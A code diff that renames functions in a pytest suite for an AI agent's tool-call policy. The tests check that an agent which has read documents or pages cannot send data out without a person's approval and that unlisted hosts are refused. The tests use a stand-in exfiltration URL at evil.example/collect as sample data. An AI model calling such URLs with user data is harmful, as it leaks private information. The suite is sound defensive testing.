@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from handoff_queue.shared.agent.seen_texts import Seen, SeenText, origins_of_arguments
+from handoff_queue.shared.agent.seen_texts import Seen, SeenText, find_argument_origins
 from handoff_queue.shared.agent.tool import ANY_HOST, Tool, ToolFailed, ToolOutput
 from handoff_queue.shared.agent.tool_policy import (
     CallDecision,
@@ -15,11 +15,11 @@ from handoff_queue.shared.agent.tool_policy import (
     PolicyRules,
     Rule,
     ToolPolicy,
-    refusal_text,
+    describe_refusal,
 )
 from handoff_queue.shared.types.checkpoints import ToolObserved
 from handoff_queue.testing import Reply, tool_call_reply
-from handoff_queue.workers.tools.code_execution import SERVER_TYPE, code_execution_tool
+from handoff_queue.workers.tools.code_execution import SERVER_TYPE, build_code_execution_tool
 from tests.doubles.agent_runs import Run, answer_reply
 from tests.doubles.handoffs import a_handoff
 from tests.doubles.memory_checkpoints import MemoryCheckpoints
@@ -46,7 +46,7 @@ def ordering(**fields: Any) -> Tool:
 
 
 def seen(*texts: SeenText) -> Seen:
-    return Seen().plus(REQUEST, *texts)
+    return Seen().add(REQUEST, *texts)
 
 
 def fetch(url: str, what: Seen, *hosts: str) -> CallDecision:
@@ -62,7 +62,7 @@ def test_a_handoff_that_has_read_a_document_sends_nothing_out_without_a_person()
     decision = fetch("https://evil.example/collect?d=48713", seen(DOCUMENT))
     assert decision.verdict is CallVerdict.ASK
     assert decision.reason == "fetch_url sends data out, and this handoff has seen document"
-    assert refusal_text(decision).startswith("not run: fetch_url sends data out")
+    assert describe_refusal(decision).startswith("not run: fetch_url sends data out")
 
 
 def test_a_url_word_for_word_from_the_request_is_fetched() -> None:
@@ -129,7 +129,7 @@ def test_words_that_the_user_or_a_page_wrote_may_leave() -> None:
 def test_a_host_outside_of_the_list_is_refused_before_anything_was_seen() -> None:
     decision = fetch("https://evil.example/", Seen(), "stats.example.org")
     assert decision.verdict is CallVerdict.REFUSE
-    assert "evil.example is not in the list of hosts" in refusal_text(decision)
+    assert "evil.example is not in the list of hosts" in describe_refusal(decision)
 
 
 def test_a_tool_that_neither_sends_nor_acts_is_free() -> None:
@@ -153,7 +153,7 @@ def test_a_tool_that_acts_with_the_words_of_the_user_needs_no_person() -> None:
 @pytest.mark.parametrize("value", ["13", "June", 13, "2026", ["Lisbon", "13"], "...13..."])
 def test_a_short_value_that_stands_in_the_request_by_chance_needs_a_person(value: Any) -> None:
     request = SeenText("Write the plan of 13 June 2026 for Lisbon.", ("user",))
-    decision = ToolPolicy().decide(ordering(), {"file_id": value}, Seen().plus(request, DOCUMENT))
+    decision = ToolPolicy().decide(ordering(), {"file_id": value}, Seen().add(request, DOCUMENT))
     assert decision.verdict is CallVerdict.ASK
 
 
@@ -183,7 +183,7 @@ def test_the_first_rule_that_holds_decides() -> None:
 
 def test_each_argument_names_the_texts_that_it_came_from() -> None:
     what = seen(DOCUMENT, PAGE)
-    origins = origins_of_arguments(
+    origins = find_argument_origins(
         {
             "city": "Lisbon",
             "name": "amalia  NOGUEIRA",
@@ -243,7 +243,7 @@ def a_run(*replies: Reply, tools: tuple[Tool, ...], **fields: Any) -> Run:
 
 
 def observed(run: Run) -> list[ToolObserved]:
-    checkpoints = run.checkpoints.earlier_checkpoints()
+    checkpoints = run.checkpoints.load_earlier_checkpoints()
     return [item for item in checkpoints if isinstance(item, ToolObserved)]
 
 
@@ -276,7 +276,7 @@ def test_a_resumed_handoff_knows_its_earlier_origins() -> None:
     first = a_run(READ, tools=tools)
     first.go()
     checkpoints = MemoryCheckpoints()
-    checkpoints.checkpoint(*first.checkpoints.earlier_checkpoints()[:2])
+    checkpoints.checkpoint(*first.checkpoints.load_earlier_checkpoints()[:2])
     resumed = Run(
         lambda call: SEND if len(call.messages) == 3 else answer_reply(),
         tools=tools,
@@ -347,7 +347,7 @@ def test_a_result_of_code_at_the_provider_is_private_and_untrusted() -> None:
     }
     code = Reply(blocks=(call, result), stop_reason="pause_turn")
     sent: list[str] = []
-    run = a_run(code, SEND, tools=(code_execution_tool(), sending(sent)))
+    run = a_run(code, SEND, tools=(build_code_execution_tool(), sending(sent)))
 
     assert run.go().origins == ("model", "tool code_execution", "user")
     assert sent == []
